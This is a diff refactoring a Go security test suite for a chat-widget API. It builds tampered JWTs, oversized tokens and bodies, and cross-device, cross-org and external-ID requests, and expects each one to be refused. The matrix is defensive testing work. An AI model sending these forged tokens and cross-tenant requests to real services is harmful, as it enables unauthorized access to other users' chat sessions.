-				return widgetReq("GET", "/v1/widget/me", f.A.WidgetToken, f.signed(nil, c), "")
-			}, Want: refusal(401, invalidToken)},
-		{Class: ClassOversized, Name: "100 KB token: POST /v1/widget/sessions",
-			Req: func(f *Fixture) Request {
-				h, p, s := jwtParts(f.CA1)
-				return widgetReq("POST", "/v1/widget/sessions", f.A.WidgetToken, h+"."+p+pad(100_000)+"."+s, attackSessionBody)
-			}, Want: platform(401, invalidToken)},
-		{Class: ClassOversized, Name: "1 MB Authorization header: POST /v1/widget/sessions",
-			Req: func(f *Fixture) Request {
-				return widgetReq("POST", "/v1/widget/sessions", f.A.WidgetToken, pad(1<<20), attackSessionBody)
-			}, Want: platform(401, invalidToken)},
-		{Class: ClassOversized, Name: "1 MB X-Widget-Token: POST /v1/widget/contacts",
-			Req: func(f *Fixture) Request {
-				return widgetReq("POST", "/v1/widget/contacts", "pk_"+pad(1<<20), "", fmt.Sprintf(attackContactNameChange, f.DevA1))
-			}, Want: platform(401, unauthorized)},
-		{Class: ClassOversized, Name: "100 KB api key: POST /v1/users/authenticate",
-			Req: func(f *Fixture) Request {
-				return serverReq("POST", "/v1/users/authenticate", "Bearer sk_"+pad(100_000), attackAuthenticateBody)
-			}, Want: platform(401, unauthorized)},
-		{Class: ClassOversized, Name: "100 KB admin token: POST /v1/admin/orgs",
-			Req: func(f *Fixture) Request {
-				return serverReq("POST", "/v1/admin/orgs", "Bearer "+f.adminToken+pad(100_000), probeOrgBody(f))
-			}, Want: platform(401, unauthorized)},
-		{Class: ClassOversized, Name: "1 MB body: POST /v1/widget/contacts",
-			Req: func(f *Fixture) Request {
-				body := fmt.Sprintf(`{"device_id":%q,"name":"Attacker","custom_data":{"x":%q}}`, f.DevA1, pad(1<<20))
-				return widgetReq("POST", "/v1/widget/contacts", f.A.WidgetToken, "", body)
-			}, Want: platform(413, payloadTooLarge)},
-		{Class: ClassOversized, Name: "1 MB body: POST /v1/users/authenticate",
-			Req: func(f *Fixture) Request {
-				body := fmt.Sprintf(`{"user_id":"u-victim","name":"Attacker","custom_data":{"x":%q}}`, pad(1<<20))
-				return serverReq("POST", "/v1/users/authenticate", "Bearer "+f.A.APIKey, body)
-			}, Want: platform(413, payloadTooLarge)},
-		{Class: ClassOversized, Name: "65 KiB message: POST /v1/widget/sessions/{id}/messages",
-			Req: func(f *Fixture) Request {
-				body := fmt.Sprintf(`{"content":%q}`, pad(65<<10))
-				return widgetReq("POST", "/v1/widget/sessions/"+f.SA1+"/messages", f.A.WidgetToken, f.CA1, body)
-			}, Want: refusal(413, payloadTooLarge)},
-		{Class: ClassOversized, Name: "65 KiB agent message: POST /v1/sessions/{id}/messages",
-			Req: func(f *Fixture) Request {
-				body := fmt.Sprintf(`{"content":%q}`, pad(65<<10))
-				return serverReq("POST", "/v1/sessions/"+f.SA1+"/messages", "Bearer "+f.A.APIKey, body)
-			}, Want: refusal(413, payloadTooLarge)},
+	c := func(name string, want Want, req func(f *Fixture) Request) Case {
+		return Case{Class: ClassOversized, Name: name, Want: want, Req: req}
 	}
-}
-
-// probeOrgBody is an org that, if created, allows the probe origin: the
-// observer would see its preflight answered.
-func probeOrgBody(f *Fixture) string {
-	return fmt.Sprintf(`{"name":"Attacker","allowed_origins":[%q]}`, f.ProbeOrigin)
+	return []Case{
+		{Class: ClassOversized, Name: "9 KiB token with a genuine signature: GET /v1/widget/me", NeedsKey: true, Want: refusal(401, invalidToken),
+			Req: func(f *Fixture) Request {
+				return f.widgetReq("GET /v1/widget/me", "{A.pk}", resigned(func(_ *Fixture, c map[string]any) { c["pad"] = pad(9 << 10) })(f), "")
+			}},
+		c("100 KB token: POST /v1/widget/sessions", platform(401, invalidToken), func(f *Fixture) Request {
+			h, p, s := jwtParts(f.CA1)
+			return f.widgetReq("POST /v1/widget/sessions", "{A.pk}", h+"."+p+pad(100_000)+"."+s, attackSessionBody)
+		}),
+		c("1 MB Authorization header: POST /v1/widget/sessions", platform(401, invalidToken), func(f *Fixture) Request {
+			return f.widgetReq("POST /v1/widget/sessions", "{A.pk}", pad(1<<20), attackSessionBody)
+		}),
+		c("1 MB X-Widget-Token: POST /v1/widget/contacts", platform(401, unauthorized), func(f *Fixture) Request {
+			return f.widgetReq("POST /v1/widget/contacts", "pk_"+pad(1<<20), "", attackContactNameChange)
+		}),
+		sc(ClassOversized, "100 KB api key: POST /v1/users/authenticate", "POST /v1/users/authenticate", "Bearer sk_"+pad(100_000), attackAuthenticateBody, platform(401, unauthorized)),
+		sc(ClassOversized, "100 KB admin token: POST /v1/admin/orgs", "POST /v1/admin/orgs", "Bearer {admin}"+pad(100_000), probeOrgBody, platform(401, unauthorized)),
+		wc(ClassOversized, "1 MB body: POST /v1/widget/contacts", "POST /v1/widget/contacts", "",
+			`{"device_id":"{DevA1}","name":"Attacker","custom_data":{"x":"`+pad(1<<20)+`"}}`, platform(413, payloadTooLarge)),
+		sc(ClassOversized, "1 MB body: POST /v1/users/authenticate", "POST /v1/users/authenticate", "Bearer {A.key}",
+			`{"user_id":"u-victim","name":"Attacker","custom_data":{"x":"`+pad(1<<20)+`"}}`, platform(413, payloadTooLarge)),
+		wc(ClassOversized, "65 KiB message: POST /v1/widget/sessions/{id}/messages", "POST /v1/widget/sessions/{SA1}/messages", "{CA1}",
+			`{"content":"`+pad(65<<10)+`"}`, refusal(413, payloadTooLarge)),
+		sc(ClassOversized, "65 KiB agent message: POST /v1/sessions/{id}/messages", "POST /v1/sessions/{SA1}/messages", "Bearer {A.key}",
+			`{"content":"`+pad(65<<10)+`"}`, refusal(413, payloadTooLarge)),
+	}
 }
 
 // ---- answers that must show only the caller's own ----
 
-type listing struct {
-	Items []struct {
-		ID string `json:"id"`
-	} `json:"items"`
-}
-
 func sessionIDs(r *Response) ([]string, error) {
-	var l listing
+	var l struct {
+		Items []struct {
+			ID string `json:"id"`
+		} `json:"items"`
+	}
 	if err := json.Unmarshal(r.Body, &l); err != nil {
 		return nil, err
 	}
@@ -528,34 +502,38 @@ func sessionIDs(r *Response) ([]string, error) {
 	return ids, nil
 }
 
-// listExactly: a listing of exactly the sessions named.
-func listExactly(want func(f *Fixture) []string) func(*Fixture, *Response) []string {
-	return func(f *Fixture, r *Response) []string {
-		got, err := sessionIDs(r)
-		if err != nil {
-			return []string{"listing is not {items:[...]}"}
-		}
-		w := want(f)
-		slices.Sort(got)
-		slices.Sort(w)
-		if !slices.Equal(got, w) {
-			return []string{fmt.Sprintf("listing shows %s, want exactly %s", f.names(got), f.names(w))}
-		}
-		return nil
-	}
+// sessionNames are the fixture's sessions by name.
+func (f *Fixture) sessionNames() map[string]string {
+	return map[string]string{"SA1": f.SA1, "SA1b": f.SA1b, "SA2": f.SA2, "SA3": f.SA3, "SV": f.SV, "SVws1": f.SVws1,
+		"SVws2": f.SVws2, "SR": f.SR, "SB1": f.SB1, "SBV": f.SBV}
 }
 
-// listWithin: a listing of none but the sessions named.
-func listWithin(allowed func(f *Fixture) []string) func(*Fixture, *Response) []string {
+// listExactly: a listing of exactly the sessions named; listWithin: of
+// none but them.
+func listExactly(names ...string) func(*Fixture, *Response) []string { return listing(true, names) }
+func listWithin(names ...string) func(*Fixture, *Response) []string  { return listing(false, names) }
+
+func listing(exactly bool, names []string) func(*Fixture, *Response) []string {
 	return func(f *Fixture, r *Response) []string {
 		got, err := sessionIDs(r)
 		if err != nil {
 			return []string{"listing is not {items:[...]}"}
 		}
-		ok := allowed(f)
+		w := make([]string, len(names))
+		for i, n := range names {
+			w[i] = f.sessionNames()[n]
+		}
+		if exactly {
+			slices.Sort(got)
+			slices.Sort(w)
+			if !slices.Equal(got, w) {
+				return []string{fmt.Sprintf("listing shows %s, want exactly %s", f.names(got), f.names(w))}
+			}
+			return nil
+		}
 		var leaked []string
 		for _, id := range got {
-			if !slices.Contains(ok, id) {
+			if !slices.Contains(w, id) {
 				leaked = append(leaked, id)
 			}
 		}
@@ -568,8 +546,10 @@ func listWithin(allowed func(f *Fixture) []string) func(*Fixture, *Response) []s
 
 // names names the fixture's sessions in messages.
 func (f *Fixture) names(ids []string) string {
-	m := map[string]string{f.SA1: "SA1", f.SA1b: "SA1b", f.SA2: "SA2", f.SA3: "SA3", f.SV: "SV", f.SVws1: "SVws1",
-		f.SVws2: "SVws2", f.SR: "SR", f.SB1: "SB1", f.SBV: "SBV"}
+	m := map[string]string{}
+	for n, id := range f.sessionNames() {
+		m[id] = n
+	}
 	out := make([]string, len(ids))
 	for i, id := range ids {
 		if n, ok := m[id]; ok {
@@ -581,19 +561,17 @@ func (f *Fixture) names(ids []string) string {
 	return "[" + strings.Join(out, " ") + "]"
 }
 
-// hidden: a 404 exactly like the one for a session that does not exist.
-func hidden(f *Fixture, r *Response) []string {
+// hiddenWant: a 404 exactly like the one for a session that does not exist.
+var hiddenWant = Want{Status: 404, Code: notFound, Check: func(f *Fixture, r *Response) []string {
 	if !bytes.Equal(r.Body, f.NotFound) {
 		return []string{"the 404 differs from the one for a session that does not exist: it tells the session exists"}
 	}
 	return nil
-}
+}}
 
-var hiddenWant = Want{Status: 404, Code: notFound, Check: hidden}
-
-// meIsContact: /me shows the contact of the token's device, not verified,
-// and no user.
-func meIsContact(id func(f *Fixture) string) func(*Fixture, *Response) []string {
+// meIsContact: /me shows the contact of the token's device (id, when not
+// ""), not verified, and no user.
+func meIsContact(id string) func(*Fixture, *Response) []string {
 	return func(f *Fixture, r *Response) []string {
 		var me struct {
 			Contact *struct {
@@ -612,486 +590,284 @@ func meIsContact(id func(f *Fixture) string) func(*Fixture, *Response) []string 
 		if me.Contact.Verified == nil || *me.Contact.Verified {
 			p = append(p, "/me of a contact token is not verified:false")
 		}
-		if want := id(f); want != "" && me.Contact.ID != want {
+		if want := f.x(id); want != "" && me.Contact.ID != want {
 			p = append(p, "/me shows another contact")
 		}
 		return p
 	}
 }
 
-func ids(fs ...func(f *Fixture) string) func(f *Fixture) []string {
-	return func(f *Fixture) []string {
-		out := make([]string, len(fs))
-		for i, fn := range fs {
-			out[i] = fn(f)
-		}
-		return out
-	}
-}
-
-var (
-	sA1   = func(f *Fixture) string { return f.SA1 }
-	sA1b  = func(f *Fixture) string { return f.SA1b }
-	sA2   = func(f *Fixture) string { return f.SA2 }
-	sA3   = func(f *Fixture) string { return f.SA3 }
-	sV    = func(f *Fixture) string { return f.SV }
-	sVws1 = func(f *Fixture) string { return f.SVws1 }
-	sVws2 = func(f *Fixture) string { return f.SVws2 }
-	sB1   = func(f *Fixture) string { return f.SB1 }
-	sBV   = func(f *Fixture) string { return f.SBV }
-)
-
-// widgetCase is a case of a widget call as principal tok (of org A unless pk says).
-func widgetCase(class, name, method string, path func(f *Fixture) string, pk, tok func(f *Fixture) string, body string, want Want) Case {
-	return Case{Class: class, Name: name, Want: want, Req: func(f *Fixture) Request {
-		p := f.A.WidgetToken
-		if pk != nil {
-			p = pk(f)
-		}
-		return widgetReq(method, path(f), p, tok(f), body)
-	}}
-}
-
-func sessionPath(s func(f *Fixture) string) func(f *Fixture) string {
-	return func(f *Fixture) string { return "/v1/widget/sessions/" + s(f) }
-}
-
-func messagesPath(s func(f *Fixture) string) func(f *Fixture) string {
-	return func(f *Fixture) string { return "/v1/widget/sessions/" + s(f) + "/messages" }
-}
-
-var (
-	tCA1  = func(f *Fixture) string { return f.CA1 }
-	tCA2  = func(f *Fixture) string { return f.CA2 }
-	tCA3  = func(f *Fixture) string { return f.CA3 }
-	tCB1  = func(f *Fixture) string { return f.CB1 }
-	tV    = func(f *Fixture) string { return f.V }
-	tVExt = func(f *Fixture) string { return f.VExt }
-	pkB   = func(f *Fixture) string { return f.B.WidgetToken }
-)
-
-func ok(check func(*Fixture, *Response) []string) Want { return Want{Status: 200, Check: check} }
-
 // ---- who sees which chats ----
 
 func contactAsVerifiedCases() []Case {
-	flip := func(fn func(f *Fixture, c map[string]any)) func(f *Fixture) string {
-		return func(f *Fixture) string {
-			return withPayload(f.CA1, edit(f.claimsOf(f.CA1), func(c map[string]any) { fn(f, c) }))
-		}
+	flip := func(fn func(c map[string]any)) func(f *Fixture) string {
+		return func(f *Fixture) string { return withPayload(f.CA1, edit(f.claimsOf(f.CA1), fn)) }
 	}
-	cs := tokenCases(ClassContactAsVerified, refusal(401, invalidToken), writeRoutes,
-		userToken{name: "kind flipped to verified as the victim, signature kept", make: flip(func(f *Fixture, c map[string]any) {
+	const cl = ClassContactAsVerified
+	return append(tokenCases(cl, refusal(401, invalidToken), writeRoutes,
+		tok("kind flipped to verified as the victim, signature kept", flip(func(c map[string]any) {
 			c["kind"], c["sub"], c["uid"], c["email"] = "verified", VictimID, VictimID, VictimEmail
 			delete(c, "cid")
-		})},
-		userToken{name: "kind flipped to verified, cid kept, signature kept", make: flip(func(f *Fixture, c map[string]any) { c["kind"] = "verified" })},
-		userToken{name: "genuine signature on a contact with the victim's uid and email", needsKey: true, make: func(f *Fixture) string {
-			c := f.contactClaims()
+		})),
+		tok("kind flipped to verified, cid kept, signature kept", flip(func(c map[string]any) { c["kind"] = "verified" })),
+		keyTok("genuine signature on a contact with the victim's uid and email", resigned(func(_ *Fixture, c map[string]any) {
 			c["uid"], c["email"] = VictimID, VictimEmail
-			return f.signed(nil, c)
-		}},
-		userToken{name: "genuine signature, kind verified with a cid", needsKey: true, make: func(f *Fixture) string {
-			c := f.contactClaims()
+		})),
+		keyTok("genuine signature, kind verified with a cid", resigned(func(_ *Fixture, c map[string]any) {
 			c["kind"], c["sub"], c["uid"] = "verified", VictimID, VictimID
-			return f.signed(nil, c)
-		}},
-	)
-	return append(cs,
-		widgetCase(ClassContactAsVerified, "A1's contact token lists only A1's sessions (not the victim's, though the victim chatted from A1's browser too)",
-			"GET", fixed("/v1/widget/sessions"), nil, tCA1, "", ok(listExactly(ids(sA1, sA1b)))),
-		widgetCase(ClassContactAsVerified, "A1's contact token lists ws-1: only A1's ws-1 session",
-			"GET", fixed("/v1/widget/sessions?external_id="+BoundExt), nil, tCA1, "", ok(listExactly(ids(sA1b)))),
-		widgetCase(ClassContactAsVerified, "A1's contact token reads the victim's session", "GET", sessionPath(sV), nil, tCA1, "", hiddenWant),
-		widgetCase(ClassContactAsVerified, "A1's contact token posts to the victim's session", "POST", messagesPath(sV), nil, tCA1, attackContent, hiddenWant),
-		widgetCase(ClassContactAsVerified, "A1's /me is its contact, not verified", "GET", fixed("/v1/widget/me"), nil, tCA1, "",
-			ok(meIsContact(func(f *Fixture) string { return f.ContactA1 }))),
-		widgetCase(ClassContactAsVerified, "the victim's verified token lists none of the device's contact sessions",
-			"GET", fixed("/v1/widget/sessions"), nil, tV, "", ok(listExactly(ids(sV, sVws1, sVws2)))),
-		widgetCase(ClassContactAsVerified, "the victim's verified token reads A1's contact session", "GET", sessionPath(sA1), nil, tV, "", hiddenWant),
+		})),
+	),
+		wc(cl, "A1's contact token lists only A1's sessions (not the victim's, though the victim chatted from A1's browser too)",
+			"GET /v1/widget/sessions", "{CA1}", "", ok(listExactly("SA1", "SA1b"))),
+		wc(cl, "A1's contact token lists ws-1: only A1's ws-1 session", "GET /v1/widget/sessions?external_id="+BoundExt, "{CA1}", "", ok(listExactly("SA1b"))),
+		wc(cl, "A1's contact token reads the victim's session", "GET /v1/widget/sessions/{SV}", "{CA1}", "", hiddenWant),
+		wc(cl, "A1's contact token posts to the victim's session", "POST /v1/widget/sessions/{SV}/messages", "{CA1}", attackContent, hiddenWant),
+		wc(cl, "A1's /me is its contact, not verified", "GET /v1/widget/me", "{CA1}", "", ok(meIsContact("{ContactA1}"))),
+		wc(cl, "the victim's verified token lists none of the device's contact sessions", "GET /v1/widget/sessions", "{V}", "", ok(listExactly("SV", "SVws1", "SVws2"))),
+		wc(cl, "the victim's verified token reads A1's contact session", "GET /v1/widget/sessions/{SA1}", "{V}", "", hiddenWant),
 	)
 }
 
 func otherDeviceCases() []Case {
+	const cl = ClassOtherDevice
 	return []Case{
-		widgetCase(ClassOtherDevice, "A2 reads A1's session by id", "GET", sessionPath(sA1), nil, tCA2, "", hiddenWant),
-		widgetCase(ClassOtherDevice, "A2 reads A1's session after a message", "GET", func(f *Fixture) string {
-			return "/v1/widget/sessions/" + f.SA1 + "?after=" + uuid.Must(uuid.NewV7()).String()
-		}, nil, tCA2, "", hiddenWant),
-		widgetCase(ClassOtherDevice, "A2 reads A1's ws-1 session", "GET", sessionPath(sA1b), nil, tCA2, "", hiddenWant),
-		widgetCase(ClassOtherDevice, "A2 posts to A1's session", "POST", messagesPath(sA1), nil, tCA2, attackContent, hiddenWant),
-		{Class: ClassOtherDevice, Name: "A2 posts to A1's session with an Idempotency-Key", Want: hiddenWant, Req: func(f *Fixture) Request {
-			req := widgetReq("POST", "/v1/widget/sessions/"+f.SA1+"/messages", f.A.WidgetToken, f.CA2, attackContent)
-			req.Header.Set("Idempotency-Key", "attack-"+uuid.NewString())
-			return req
+		wc(cl, "A2 reads A1's session by id", "GET /v1/widget/sessions/{SA1}", "{CA2}", "", hiddenWant),
+		wc(cl, "A2 reads A1's session after a message", "GET /v1/widget/sessions/{SA1}?after={v7}", "{CA2}", "", hiddenWant),
+		wc(cl, "A2 reads A1's ws-1 session", "GET /v1/widget/sessions/{SA1b}", "{CA2}", "", hiddenWant),
+		wc(cl, "A2 posts to A1's session", "POST /v1/widget/sessions/{SA1}/messages", "{CA2}", attackContent, hiddenWant),
+		call(cl, "A2 posts to A1's session with an Idempotency-Key", "POST /v1/widget/sessions/{SA1}/messages", attackContent, hiddenWant,
+			"X-Widget-Token", "{A.pk}", "Authorization", "Bearer {CA2}", "Idempotency-Key", "attack-{new}"),
+		{Class: cl, Name: "A2 reads A1's session id in upper case", Want: hiddenWant, Req: func(f *Fixture) Request {
+			return f.widgetReq("GET /v1/widget/sessions/"+strings.ToUpper(f.SA1), "{A.pk}", "{CA2}", "")
 		}},
-		widgetCase(ClassOtherDevice, "A2 reads A1's session id in upper case", "GET", func(f *Fixture) string {
-			return "/v1/widget/sessions/" + strings.ToUpper(f.SA1)
-		}, nil, tCA2, "", hiddenWant),
-		widgetCase(ClassOtherDevice, "B1 (org B) reads A1's session with B's widget token", "GET", sessionPath(sA1), pkB, tCB1, "", hiddenWant),
-		widgetCase(ClassOtherDevice, "B1 (org B) posts to A1's session", "POST", messagesPath(sA1), pkB, tCB1, attackContent, hiddenWant),
-		widgetCase(ClassOtherDevice, "B's verified victim reads A's victim session", "GET", sessionPath(sV), pkB,
-			func(f *Fixture) string { return f.VB }, "", hiddenWant),
-		widgetCase(ClassOtherDevice, "A2 lists with A1's cursor", "GET", func(f *Fixture) string {
-			return "/v1/widget/sessions?cursor=" + url.QueryEscape(f.CursorA1)
-		}, nil, tCA2, "", ok(listWithin(ids(sA2)))),
-		widgetCase(ClassOtherDevice, "A2 lists with org A's server-listing cursor", "GET", func(f *Fixture) string {
-			return "/v1/widget/sessions?cursor=" + url.QueryEscape(f.CursorOrgA)
-		}, nil, tCA2, "", ok(listWithin(ids(sA2)))),
-		widgetCase(ClassOtherDevice, "A2 lists its own sessions only", "GET", fixed("/v1/widget/sessions?limit=100"), nil, tCA2, "", ok(listExactly(ids(sA2)))),
+		wcOn(cl, "B1 (org B) reads A1's session with B's widget token", "GET /v1/widget/sessions/{SA1}", "{B.pk}", "{CB1}", "", hiddenWant),
+		wcOn(cl, "B1 (org B) posts to A1's session", "POST /v1/widget/sessions/{SA1}/messages", "{B.pk}", "{CB1}", attackContent, hiddenWant),
+		wcOn(cl, "B's verified victim reads A's victim session", "GET /v1/widget/sessions/{SV}", "{B.pk}", "{VB}", "", hiddenWant),
+		wc(cl, "A2 lists with A1's cursor", "GET /v1/widget/sessions?cursor={CursorA1}", "{CA2}", "", ok(listWithin("SA2"))),
+		wc(cl, "A2 lists with org A's server-listing cursor", "GET /v1/widget/sessions?cursor={CursorOrgA}", "{CA2}", "", ok(listWithin("SA2"))),
+		wc(cl, "A2 lists its own sessions only", "GET /v1/widget/sessions?limit=100", "{CA2}", "", ok(listExactly("SA2"))),
 	}
 }
 
 func claimedEmailCases() []Case {
+	const cl = ClassClaimedEmail
 	return []Case{
-		widgetCase(ClassClaimedEmail, "A3 (claimed the victim's email) lists only its own session",
-			"GET", fixed("/v1/widget/sessions"), nil, tCA3, "", ok(listExactly(ids(sA3)))),
-		widgetCase(ClassClaimedEmail, "A3 lists ws-1: nothing", "GET", fixed("/v1/widget/sessions?external_id="+BoundExt), nil, tCA3, "",
-			ok(listExactly(func(*Fixture) []string { return nil }))),
-		widgetCase(ClassClaimedEmail, "A3 reads the victim's session", "GET", sessionPath(sV), nil, tCA3, "", hiddenWant),
-		widgetCase(ClassClaimedEmail, "A3 reads the victim's ws-1 session", "GET", sessionPath(sVws1), nil, tCA3, "", hiddenWant),
-		widgetCase(ClassClaimedEmail, "A3 posts to the victim's session", "POST", messagesPath(sV), nil, tCA3, attackContent, hiddenWant),
-		widgetCase(ClassClaimedEmail, "A3's /me is a contact, not the victim", "GET", fixed("/v1/widget/me"), nil, tCA3, "", ok(meIsContact(fixed("")))),
+		wc(cl, "A3 (claimed the victim's email) lists only its own session", "GET /v1/widget/sessions", "{CA3}", "", ok(listExactly("SA3"))),
+		wc(cl, "A3 lists ws-1: nothing", "GET /v1/widget/sessions?external_id="+BoundExt, "{CA3}", "", ok(listExactly())),
+		wc(cl, "A3 reads the victim's session", "GET /v1/widget/sessions/{SV}", "{CA3}", "", hiddenWant),
+		wc(cl, "A3 reads the victim's ws-1 session", "GET /v1/widget/sessions/{SVws1}", "{CA3}", "", hiddenWant),
+		wc(cl, "A3 posts to the victim's session", "POST /v1/widget/sessions/{SV}/messages", "{CA3}", attackContent, hiddenWant),
+		wc(cl, "A3's /me is a contact, not the victim", "GET /v1/widget/me", "{CA3}", "", ok(meIsContact(""))),
 	}
 }
 
 func externalIDCases() []Case {
+	const cl = ClassExternalID
 	mismatch := refusal(403, externalIDMismatch)
 	return []Case{
-		widgetCase(ClassExternalID, "create in ws-2 with a ws-1 token", "POST", fixed("/v1/widget/sessions"), nil, tVExt, attackSessionOtherExt, mismatch),
-		widgetCase(ClassExternalID, "create in WS-1 (case changed)", "POST", fixed("/v1/widget/sessions"), nil, tVExt, `{"external_id":"WS-1"}`, mismatch),
-		widgetCase(ClassExternalID, "create in \"ws-1 \" (trailing space)", "POST", fixed("/v1/widget/sessions"), nil, tVExt, `{"external_id":"ws-1 "}`, mismatch),
-		{Class: ClassExternalID, Name: "create in ws-2 with an Idempotency-Key", Want: mismatch, Req: func(f *Fixture) Request {
-			req := widgetReq("POST", "/v1/widget/sessions", f.A.WidgetToken, f.VExt, attackSessionOtherExt)
-			req.Header.Set("Idempotency-Key", "attack-"+uuid.NewString())
-			return req
-		}},
-		widgetCase(ClassExternalID, "list ws-2 with a ws-1 token", "GET", fixed("/v1/widget/sessions?external_id="+OtherExt), nil, tVExt, "", mismatch),
-		widgetCase(ClassExternalID, "list WS-1 (case changed)", "GET", fixed("/v1/widget/sessions?external_id=WS-1"), nil, tVExt, "", mismatch),
-		widgetCase(ClassExternalID, "list without external_id: only ws-1", "GET", fixed("/v1/widget/sessions"), nil, tVExt, "", ok(listExactly(ids(sVws1)))),
-		widgetCase(ClassExternalID, "read the same user's ws-2 session", "GET", sessionPath(sVws2), nil, tVExt, "", hiddenWant),
-		widgetCase(ClassExternalID, "read the same user's session without external id", "GET", sessionPath(sV), nil, tVExt, "", hiddenWant),
-		widgetCase(ClassExternalID, "post to the same user's ws-2 session", "POST", messagesPath(sVws2), nil, tVExt, attackContent, hiddenWant),
-		widgetCase(ClassExternalID, "read a contact's ws-1 session", "GET", sessionPath(sA1b), nil, tVExt, "", hiddenWant),
+		wc(cl, "create in ws-2 with a ws-1 token", "POST /v1/widget/sessions", "{VExt}", attackSessionOtherExt, mismatch),
+		wc(cl, "create in WS-1 (case changed)", "POST /v1/widget/sessions", "{VExt}", `{"external_id":"WS-1"}`, mismatch),
+		wc(cl, "create in \"ws-1 \" (trailing space)", "POST /v1/widget/sessions", "{VExt}", `{"external_id":"ws-1 "}`, mismatch),
+		call(cl, "create in ws-2 with an Idempotency-Key", "POST /v1/widget/sessions", attackSessionOtherExt, mismatch,
+			"X-Widget-Token", "{A.pk}", "Authorization", "Bearer {VExt}", "Idempotency-Key", "attack-{new}"),
+		wc(cl, "list ws-2 with a ws-1 token", "GET /v1/widget/sessions?external_id="+OtherExt, "{VExt}", "", mismatch),
+		wc(cl, "list WS-1 (case changed)", "GET /v1/widget/sessions?external_id=WS-1", "{VExt}", "", mismatch),
+		wc(cl, "list without external_id: only ws-1", "GET /v1/widget/sessions", "{VExt}", "", ok(listExactly("SVws1"))),
+		wc(cl, "read the same user's ws-2 session", "GET /v1/widget/sessions/{SVws2}", "{VExt}", "", hiddenWant),
+		wc(cl, "read the same user's session without external id", "GET /v1/widget/sessions/{SV}", "{VExt}", "", hiddenWant),
+		wc(cl, "post to the same user's ws-2 session", "POST /v1/widget/sessions/{SVws2}/messages", "{VExt}", attackContent, hiddenWant),
+		wc(cl, "read a contact's ws-1 session", "GET /v1/widget/sessions/{SA1b}", "{VExt}", "", hiddenWant),
 	}
 }
 
 // ---- api keys, admin token, credential kinds ----
 
-// serverCase is an org-server or vendor call with Authorization auth(f).
-func serverCase(class, name, method string, path func(f *Fixture) string, auth func(f *Fixture) string, body func(f *Fixture) string, want Want) Case {
-	return Case{Class: class, Name: name, Want: want, Req: func(f *Fixture) Request {
-		b := ""
-		if body != nil {
-			b = body(f)
-		}
-		return serverReq(method, path(f), auth(f), b)
-	}}
-}
-
-func body(s string) func(*Fixture) string { return func(*Fixture) string { return s } }
-
-func bearerOf(s func(f *Fixture) string) func(f *Fixture) string {
-	return func(f *Fixture) string { return "Bearer " + s(f) }
-}
-
 // serverRoutes are the org-server routes, each with a body that would store
-// something if let through.
-var serverRoutes = []struct {
-	name, method string
-	path         func(f *Fixture) string
-	body         func(f *Fixture) string
-}{
-	{"GET /v1/sessions", "GET", fixed("/v1/sessions"), nil},
-	{"GET /v1/sessions/{id}", "GET", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 }, nil},
-	{"POST /v1/sessions/{id}/messages", "POST", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 + "/messages" }, body(attackContent)},
-	{"POST /v1/users/authenticate", "POST", fixed("/v1/users/authenticate"), body(attackAuthenticateBody)},
-	{"POST /v1/users/revoke", "POST", fixed("/v1/users/revoke"), body(attackRevokeVictimBody)},
-}
+// something if let through; adminRoutes the vendor routes, each of which
+// would change something.
+var (
+	serverRoutes = []route{
+		{"GET /v1/sessions", "GET /v1/sessions", ""},
+		{"GET /v1/sessions/{id}", "GET /v1/sessions/{SA1}", ""},
+		{"POST /v1/sessions/{id}/messages", "POST /v1/sessions/{SA1}/messages", attackContent},
+		{"POST /v1/users/authenticate", "POST /v1/users/authenticate", attackAuthenticateBody},
+		{"POST /v1/users/revoke", "POST /v1/users/revoke", attackRevokeVictimBody},
+	}
+	adminRoutes = []route{
+		{"POST /v1/admin/orgs", "POST /v1/admin/orgs", probeOrgBody},
+		{"POST /v1/admin/orgs/{A}/api-keys", "POST /v1/admin/orgs/{A.ID}/api-keys", ""},
+		{"DELETE /v1/admin/orgs/{A}/api-keys/{A's key}", "DELETE /v1/admin/orgs/{A.ID}/api-keys/{A.keyID}", ""},
+	}
+)
 
-// adminRoutes are the vendor routes, each of which would change something.
-var adminRoutes = []struct {
-	name, method string
-	path         func(f *Fixture) string
-	body         func(f *Fixture) string
-}{
-	{"POST /v1/admin/orgs", "POST", fixed("/v1/admin/orgs"), probeOrgBody},
-	{"POST /v1/admin/orgs/{A}/api-keys", "POST", func(f *Fixture) string { return "/v1/admin/orgs/" + f.A.ID + "/api-keys" }, nil},
-	{"DELETE /v1/admin/orgs/{A}/api-keys/{A's key}", "DELETE", func(f *Fixture) string {
-		return "/v1/admin/orgs/" + f.A.ID + "/api-keys/" + f.A.APIKeyID
-	}, nil},
+// authCases presents each Authorization value (a template, or made by a
+// func) on each route and wants the same refusal.
+func authCases(class string, want Want, routes []route, auths ...userToken) []Case {
+	var cs []Case
+	for _, a := range auths {
+		for _, rt := range routes {
+			cs = append(cs, Case{Class: class, Name: a.name + ": " + rt.name, Want: want, Req: func(f *Fixture) Request {
+				return f.req(rt.req, rt.body, "Authorization", a.make(f))
+			}})
+		}
+	}
+	return cs
 }
 
 func apiKeyOtherOrgCases() []Case {
-	keyB := bearerOf(func(f *Fixture) string { return f.B.APIKey })
-	keyA := bearerOf(func(f *Fixture) string { return f.A.APIKey })
+	const cl = ClassAPIKeyOtherOrg
+	nf := refusal(404, notFound)
 	return []Case{
-		serverCase(ClassAPIKeyOtherOrg, "B's key reads A's session", "GET", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 }, keyB, nil, refusal(404, notFound)),
-		serverCase(ClassAPIKeyOtherOrg, "B's key reads A's victim session", "GET", func(f *Fixture) string { return "/v1/sessions/" + f.SV }, keyB, nil, refusal(404, notFound)),
-		serverCase(ClassAPIKeyOtherOrg, "B's key posts to A's session", "POST", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 + "/messages" }, keyB, body(attackContent), refusal(404, notFound)),
-		serverCase(ClassAPIKeyOtherOrg, "A's key reads B's session", "GET", func(f *Fixture) string { return "/v1/sessions/" + f.SB1 }, keyA, nil, refusal(404, notFound)),
-		serverCase(ClassAPIKeyOtherOrg, "B's key lists: only B's sessions", "GET", fixed("/v1/sessions?limit=100"), keyB, nil, ok(listExactly(ids(sB1, sBV)))),
-		serverCase(ClassAPIKeyOtherOrg, "B's key lists the victim's user_id: only B's", "GET", fixed("/v1/sessions?user_id="+VictimID), keyB, nil, ok(listExactly(ids(sBV)))),
